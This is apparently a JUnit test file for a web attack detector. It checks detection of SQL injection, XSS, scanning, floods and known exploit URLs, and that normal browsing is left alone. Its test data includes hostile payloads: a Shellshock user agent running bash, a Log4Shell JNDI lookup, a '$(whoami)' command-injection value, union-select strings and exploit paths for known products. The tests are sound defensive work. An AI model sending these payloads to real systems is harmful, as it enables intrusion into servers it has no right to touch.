package com.hookprobe.qsecbit.detection.rule;

import static com.hookprobe.qsecbit.detection.Events.ATTACKER;
import static com.hookprobe.qsecbit.detection.Events.CLIENT;
import static com.hookprobe.qsecbit.detection.Events.LOCAL;
import static com.hookprobe.qsecbit.detection.Events.SERVER;
import static com.hookprobe.qsecbit.detection.Events.get;
import static com.hookprobe.qsecbit.detection.Events.http;
import static com.hookprobe.qsecbit.detection.Events.run;
import static org.assertj.core.api.Assertions.assertThat;

import com.hookprobe.qsecbit.detection.AttackKind;
import com.hookprobe.qsecbit.detection.Detection;
import com.hookprobe.qsecbit.detection.EventType;
import com.hookprobe.qsecbit.detection.Events;
import com.hookprobe.qsecbit.detection.NetworkEvent;
import com.hookprobe.qsecbit.detection.Thresholds;
import com.hookprobe.qsecbit.metric.Severity;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class WebAttackDetectorTest {
    private final WebAttackDetector detector = new WebAttackDetector(LOCAL, Thresholds.standard());

    @ParameterizedTest
    @MethodSource("attacks")
    void attacksAreFoundWithTheirKind(String line) {
        String[] parts = line.split("\t", 2);
        assertThat(run(detector, List.of(get(0, parts[1]))))
                .as(parts[1])
                .extracting(Detection::kind)
                .contains(AttackKind.valueOf(parts[0]));
    }

    @ParameterizedTest
    @MethodSource("honest")
    void honestRequestsAreNot(String url) {
        assertThat(run(detector, List.of(get(0, url)))).as(url).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
                "() { :; }; /bin/bash -c 'id'",
                "${jndi:ldap://203.0.113.9/a}",
                "Mozilla/5.0 zgrab/0.x",
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"
            })
    void agentsThatNameThemselves(String agent) {
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/", 200, agent))))
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                "curl/8.4.0",
                "Wget/1.21.3",
                "python-requests/2.31.0",
                "Googlebot/2.1 (+http://www.google.com/bot.html)",
                "Debian APT-HTTP/1.3 (2.6.1)",
                "okhttp/4.12.0",
                "Apache-HttpClient/4.5.14 (Java/17.0.9)",
                ""
            })
    void honestAgentsAreNot(String agent) {
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/", 200, agent))))
                .isEmpty();
    }

    @Test
    void aHiddenFileIsAGuessWhenItIsNotThere() {
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/.bashrc", 404, "curl/8.4.0"))))
                .singleElement()
                .satisfies(d -> assertThat(d.kind()).isEqualTo(AttackKind.WEB_SCAN));
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/.bashrc", 200, "curl/8.4.0"))))
                .isEmpty();
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", "/.well-known/change-password", 404, ""))))
                .isEmpty();
    }

    @Test
    void guessingAtPages() {
        List<NetworkEvent> events = new ArrayList<>();
        List<NetworkEvent> honest = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            events.add(http(i, ATTACKER, SERVER, "GET", "/page" + i, 404, "x"));
            // One page that is gone, asked again and again, and many that are there.
            honest.add(http(i, ATTACKER, SERVER, "GET", "/favicon.ico", 404, "x"));
            honest.add(http(i, ATTACKER, SERVER, "GET", "/news/" + i, 200, "x"));
        }
        assertThat(run(detector, events)).isNotEmpty().allMatch(d -> d.kind() == AttackKind.WEB_SCAN);
        assertThat(run(new WebAttackDetector(LOCAL, Thresholds.standard()), honest))
                .isEmpty();
    }

    @Test
    void whatIsAskedUnseenIsNoGuess() {
        List<String> pages = new ArrayList<>(List.of("/favicon.ico", "/ads.txt", "/apple-touch-icon-120x120.png"));
        for (int i = 0; i < 12; i++) {
            // The tools of a browser, a client that asks whether a layer of an image is there, a build.
            pages.add("/static/js/" + i + ".chunk.js.map");
            pages.add("/v2/app/blobs/sha256:" + String.format(Locale.ROOT, "%064x", i));
            pages.add("/maven/org/a/" + i + "/a.pom");
            pages.add("/.well-known/app-" + i);
        }
        List<NetworkEvent> events = new ArrayList<>();
        pages.forEach(page -> events.add(http(events.size() / 2.0, ATTACKER, SERVER, "GET", page, 404, "x")));
        assertThat(run(detector, events)).isEmpty();
        List<NetworkEvent> doors = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            doors.add(http(i, ATTACKER, SERVER, "GET", "/.well-known/a" + i + ".php", 404, "x"));
        }
        assertThat(run(new WebAttackDetector(LOCAL, Thresholds.standard()), doors))
                .isNotEmpty();
    }

    @Test
    void aFlood() {
        List<NetworkEvent> events = new ArrayList<>();
        for (int i = 0; i < 1000; i++) {
            events.add(http(i * 0.01, ATTACKER, SERVER, "GET", "/", 200, "x"));
        }
        assertThat(run(detector, events)).extracting(Detection::kind).containsExactly(AttackKind.HTTP_FLOOD);
    }

    @Test
    void oursThatAttacksIsInternal() {
        NetworkEvent event = http(0, CLIENT, ATTACKER, "GET", "/?id=1%27%20union%20select%20null,null--", 200, "x");
        assertThat(run(detector, List.of(event))).singleElement().satisfies(d -> {
            assertThat(d.internal()).isTrue();
            assertThat(d.source()).isEqualTo(CLIENT);
        });
    }

    // A pattern that takes more than linear time would hang here: each URL is at the limit of what is looked at.
    @Test
    void noUrlTakesLong() {
        List<NetworkEvent> events = new ArrayList<>();
        for (String unit : List.of(
                "'",
                "(",
                "a' or ",
                "union ",
                "select a from ",
                "<a ",
                "../",
                "; ",
                "%25",
                "${",
                "1=",
                "\"",
                "/",
                " or 1 ")) {
            events.add(get(0, "/?q=" + unit.repeat(8192 / unit.length())));
        }
        // Of the processor: a busy machine says nothing about a pattern.
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        long start = threads.getCurrentThreadCpuTime();
        for (int i = 0; i < 5; i++) {
            run(detector, events);
        }
        assertThat((threads.getCurrentThreadCpuTime() - start) / 1e9).isLessThan(10);
    }

    @Test
    void itTellsThePointsOfARequest() {
        assertThat(detector.explain(get(0, "/p?id=1%27%20UNION%20SELECT%20a"))).contains("points of SQL_INJECTION (4");
        assertThat(detector.explain(get(0, "/.env"))).contains("points of WEB_SCAN (5");
        assertThat(detector.explain(get(0, "/index.html"))).isEmpty();
    }

    static List<String> attacks() throws IOException {
        return lines("web-attacks.txt");
    }

    static List<String> honest() throws IOException {
        return lines("web-honest.txt");
    }

    private static List<String> lines(String name) throws IOException {
        try (InputStream in = Objects.requireNonNull(WebAttackDetectorTest.class.getResourceAsStream("/" + name))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.isEmpty() && !line.startsWith("#"))
                    .toList();
        }
    }

    @Test
    void weakSignsComeTogetherOverSeveralPages() {
        List<NetworkEvent> events = new ArrayList<>();
        String[] tags = {"<br", "<table", "<input", "<body", "<form"};
        for (int i = 0; i < tags.length; i++) {
            events.add(http(i, ATTACKER, SERVER, "GET", "/page?a=" + tags[i], 404, "curl/8"));
        }
        assertThat(run(detector, events)).singleElement().satisfies(d -> {
            assertThat(d.kind()).isEqualTo(AttackKind.XSS);
            assertThat(d.severity()).isEqualTo(Severity.MEDIUM);
        });
        // The same page again and again is one that is linked so.
        List<NetworkEvent> same = new ArrayList<>();
        for (int i = 0; i < 50; i++) {
            same.add(http(i, Events.ip("203.0.113.8"), SERVER, "GET", "/page?a=<br", 404, "curl/8"));
        }
        assertThat(run(detector, same)).isEmpty();
    }

    @Test
    void whatIsNoRequestAndWhatIsForAnotherServer() {
        List<NetworkEvent> events = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            events.add(http(i, ATTACKER, SERVER, "", "\\x16\\x03\\x01" + i, 400, ""));
        }
        assertThat(run(detector, events)).extracting(Detection::kind).containsExactly(AttackKind.WEB_SCAN);
        NetworkEvent proxy = http(0, ATTACKER, SERVER, "GET", "http://www.example.org/", 404, "x");
        assertThat(run(detector, List.of(proxy))).extracting(Detection::kind).containsExactly(AttackKind.WEB_SCAN);
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "", "\\x16", 400, ""))))
                .isEmpty();
    }

    @Test
    void pagesOneAfterTheOtherWithoutALink() {
        List<NetworkEvent> crawl = new ArrayList<>();
        List<NetworkEvent> reading = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            crawl.add(http(i / 4.0, ATTACKER, SERVER, "GET", "/article/" + i, 200, "x"));
            reading.add(http(20 * i, Events.ip("203.0.113.8"), SERVER, "GET", "/article/" + i, 200, "x"));
            reading.add(http(20 * i, Events.ip("203.0.113.8"), SERVER, "GET", "/pictures/" + i + ".png", 200, "x"));
        }
        assertThat(run(detector, crawl)).extracting(Detection::kind).containsExactly(AttackKind.WEB_SCAN);
        assertThat(run(detector, reading)).isEmpty();
    }

    @Test
    void brokenPicturesOfThePageItselfAreNoGuesses() {
        List<NetworkEvent> events = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            events.add(NetworkEvent.builder()
                    .type(EventType.HTTP)
                    .loggedMicros(Events.micros(i / 10.0))
                    .from(ATTACKER, 1)
                    .to(SERVER, 80)
                    .http(new NetworkEvent.Http(
                            "www.example.net", "/old/" + i + ".png", "GET", 404, "x", "https://www.example.net/", ""))
                    .build());
        }
        assertThat(run(detector, events)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/admin",
                "/login",
                "/wp-login.php",
                "/health",
                "/api/v2/users?order=name",
                "/owa/",
                "/manager",
                "/wp-content/themes/a/style.css",
                "/readme.html",
                "/graphql",
                "/user/login"
            })
    void doorsThatPeopleOpenTooAreNoScanWhenOneIsShut(String url) {
        for (int status : new int[] {200, 401, 403, 404}) {
            assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", url, status, "Mozilla/5.0"))))
                    .as(url + " " + status)
                    .isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/cgi-bin/status", "/cgi-bin/test.cgi", "/nagios/", "/.gitlab-ci", "/phpinfo.php",
                        "/crx/packmgr/service.jsp",
                "/backup.zip", "/config.php.bak", "/docker-compose.yml", "/c99shell.php", "/solr/admin",
                        "/WEB-INF/web.xml"
            })
    void whatOnlyAScannerLooksForIsWhenItIsRefused(String url) {
        assertThat(run(detector, List.of(http(0, ATTACKER, SERVER, "GET", url, 404, "Mozilla/5.0"))))
                .as(url)
                .extracting(Detection::kind)
                .contains(AttackKind.WEB_SCAN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/?x=${url:UTF-8:https://x.example/}",
                "/login/index.php?login=$(whoami)",
                "/service/extension/backup/mboximport?account-name=admin",
                "/api/v2/cmdb/system/admin/admin",
                "/vendor/htmlawed/htmlawed/htmLawedTest.php",
                "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
                "/php/utils/router.php/a.js.map",
                "/Telerik.Web.UI.WebResource.axd?type=rau",
                "/autodiscover/autodiscover.json?a@b.example/powershell",
                "/remote_agent.php?action=polldata&local_data_ids[]=1",
                "/a/_/;/WEB-INF/web.xml"
            })
    void exploitsByTheirFamily(String url) {
        assertThat(run(detector, List.of(get(0, url))))
                .as(url)
                .extracting(Detection::kind)
                .containsAnyOf(AttackKind.WEB_EXPLOIT, AttackKind.COMMAND_INJECTION);
    }
}
